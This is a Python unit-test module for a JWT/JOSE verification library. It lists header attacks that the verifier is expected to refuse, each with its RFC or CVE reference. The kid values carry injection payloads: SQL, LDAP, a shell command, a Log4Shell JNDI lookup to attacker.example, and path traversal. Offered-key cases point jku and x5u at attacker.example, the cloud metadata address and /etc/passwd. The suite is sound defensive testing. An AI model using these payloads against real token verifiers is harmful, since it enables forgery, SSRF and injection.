"""Attacks through the header: members that bring a key, change the meaning, or reach another system."""

from typing import Any

from keyturn_shared.jose import base64url
from keyturn_shared.jose.signing import SigningKey
from tests.unit.shared.jose.attacks import Attack
from tests.unit.shared.jose.scene import (
    CLAIMS,
    accept,
    header_with,
    segment,
    signed,
)


def _refused(name: str, source: str, header: dict[str, Any], code: str = "malformed") -> Attack:
    token = signed(header)
    return Attack(name, source, code, lambda: accept(token))


MEMBERS = [
    _refused(
        "crit with an unknown extension", "RFC 7515 4.1.11; CVE-2025-59420", header_with(crit=["exp"], exp=1)
    ),
    _refused(
        "crit with the example of the RFC",
        "RFC 7515 Appendix E",
        header_with(crit=["http://example.invalid/UNDEFINED"], **{"http://example.invalid/UNDEFINED": True}),
    ),
    _refused("an empty crit", "RFC 7515 4.1.11: not empty", header_with(crit=[])),
    _refused("crit that is a string", "RFC 7515 4.1.11", header_with(crit="b64")),
    _refused("crit that names a registered member", "RFC 7515 4.1.11", header_with(crit=["alg"])),
    _refused("crit that names a missing member", "RFC 7515 4.1.11", header_with(crit=["bork"])),
    _refused("b64 false with crit", "RFC 7797 6", header_with(b64=False, crit=["b64"])),
    _refused("b64 false without crit", "RFC 7797 6", header_with(b64=False)),
    _refused("b64 true", "RFC 7797 7: not in a JWT", header_with(b64=True)),
    _refused("a compressed payload", "RFC 7516 4.1.3; RFC 8725 3.6", header_with(zip="DEF")),
    _refused("enc in a signed token", "RFC 7516 9: that is a JWE", header_with(enc="A256GCM")),
    _refused("no alg", "RFC 7515 4.1.1", header_with(alg=None)),
    _refused("alg null", "RFC 7515 4.1.1", {**header_with(), "alg": None}),
    _refused("alg a number", "RFC 7515 4.1.1", header_with(alg=256)),
    _refused("alg an array", "RFC 7515 4.1.1", header_with(alg=["none", "ES256"])),
    _refused("alg an object", "RFC 7515 4.1.1", header_with(alg={"name": "ES256"})),
    _refused("alg false", "RFC 7515 4.1.1", header_with(alg=False)),
    _refused("kid a number", "RFC 7515 4.1.4", header_with(kid=0)),
    _refused("kid null", "RFC 7515 4.1.4", {**header_with(), "kid": None}),
    _refused("kid an array", "RFC 7515 4.1.4", header_with(kid=["ES256"])),
    _refused("kid an object", "RFC 7515 4.1.4: operator injection", header_with(kid={"$ne": ""})),
    _refused("kid of 513 characters", "RFC 8725 2.9", header_with(kid="k" * 513)),
    _refused("typ a number", "RFC 7515 4.1.9", header_with(typ=1)),
    _refused("cty an array", "RFC 7515 4.1.10", header_with(cty=["JWT"])),
]


def _injected(kid: str, source: str) -> Attack:
    return _refused(f"kid {kid!r}", source, header_with(kid=kid), "unknown_kid")


KIDS = [
    _injected("../../../../dev/null", "RFC 8725 3.10; CVE-2021-41106: a kid as a path"),
    _injected("/proc/sys/kernel/randomize_va_space", "RFC 8725 3.10: a kid as a path"),
    _injected("file:///dev/null", "RFC 8725 3.10: a kid as a URL"),
    _injected("https://attacker.example/key", "RFC 8725 2.9, 3.10: a kid as a URL"),
    _injected("x' UNION SELECT 'secret", "RFC 8725 2.9, 3.10: a kid in SQL"),
    _injected("*)(uid=*", "RFC 8725 2.9, 3.10: a kid in LDAP"),
    _injected("|sleep 10", "RFC 8725 3.10: a kid in a shell"),
    _injected("${jndi:ldap://attacker.example/a}", "CVE-2021-44228: a kid in a log line"),
    _injected("{{7*7}}", "RFC 8725 3.10: a kid in a template"),
    _injected("ES256\nlevel=info", "CWE-117: a kid that breaks a log line"),
    _injected("ES256\0", "RFC 8725 3.10: a kid cut at NUL"),
    _injected("es256", "RFC 7515 4.1.4: kid is case-sensitive"),
    _injected("ES256 ", "RFC 7515 4.1.4: kid is compared as it is"),
    _injected("", "RFC 7515 4.1.4: an empty kid is a kid"),
    _injected("\uff25S256", "RFC 7515 4.1.4: no Unicode normalization"),
    _injected("0", "RFC 7515 4.1.4: a kid is no index"),
    _injected("__proto__", "RFC 8725 3.10: a table look-up that reaches inherited members"),
    _injected("k" * 512, "RFC 8725 2.9: the longest kid that is read"),
]

_ATTACKER = SigningKey.generate("ES256", kid="attacker")


def _self_signed(name: str, source: str, expected: str = "bad_signature", **members: object) -> Attack:
    """A token signed by the attacker's key, which the header offers."""
    header = header_with(**members)
    signing_input = segment(header) + b"." + segment(CLAIMS)
    token = signing_input + b"." + base64url.encode(_ATTACKER.sign(signing_input))
    return Attack(name, source, expected, lambda: accept(token))


_ITS_JWK = _ATTACKER.public_jwk

OFFERED_KEYS = [
    _self_signed("a jwk of the attacker", "RFC 7515 4.1.3; RFC 8725 3.10; CVE-2018-0114", jwk=_ITS_JWK),
    _self_signed(
        "a jwk of the attacker and no kid",
        "RFC 7515 4.1.3; RFC 8725 3.10; CVE-2018-0114",
        jwk=_ITS_JWK,
        kid=None,
    ),
    _self_signed(
        "a jwk of the attacker under its own kid",
        "RFC 7515 4.1.3; CVE-2018-0114",
        "unknown_kid",
        jwk=_ITS_JWK,
        kid="attacker",
    ),
    _self_signed(
        "a jwk of the attacker under the client's kid",
        "RFC 7515 4.1.3; CVE-2018-0114",
        jwk={**_ITS_JWK, "kid": "ES256"},
    ),
    _self_signed(
        "a jku of the attacker", "RFC 7515 4.1.2; RFC 8725 3.10", jku="https://attacker.example/jwks"
    ),
    _self_signed("a jku inside the network", "RFC 8725 2.9; CWE-918", jku="http://169.254.169.254/latest/"),
    _self_signed("a jku to a file", "RFC 7515 4.1.2; CVE-2021-41106", jku="file:///etc/passwd"),
    _self_signed(
        "a jku that looks like the client's",
        "RFC 8725 3.10",
        jku="https://client.example@attacker.example/jwks",
    ),
    _self_signed(
        "an x5u of the attacker", "RFC 7515 4.1.5; RFC 8725 3.10", x5u="https://attacker.example/c.pem"
    ),
    _self_signed("an x5c of the attacker", "RFC 7515 4.1.6; RFC 8725 3.10", x5c=["MIIB"]),
    _self_signed("an x5t of the attacker", "RFC 7515 4.1.7", x5t="AAAAAAAAAAAAAAAAAAAAAAAAAAA"),
    _self_signed(
        "an x5t#S256 of the attacker", "RFC 7515 4.1.8", **{"x5t#S256": _ATTACKER.verification_key.thumbprint}
    ),
    _self_signed("an epk of the attacker", "RFC 7518 4.6.1.1", epk=_ITS_JWK),
    _self_signed(
        "the attacker's thumbprint as kid",
        "RFC 7638 7",
        "unknown_kid",
        kid=_ATTACKER.verification_key.thumbprint,
    ),
    _self_signed("the client's kid and the attacker's signature", "RFC 7515 5.2"),
]

ATTACKS = [*MEMBERS, *KIDS, *OFFERED_KEYS]
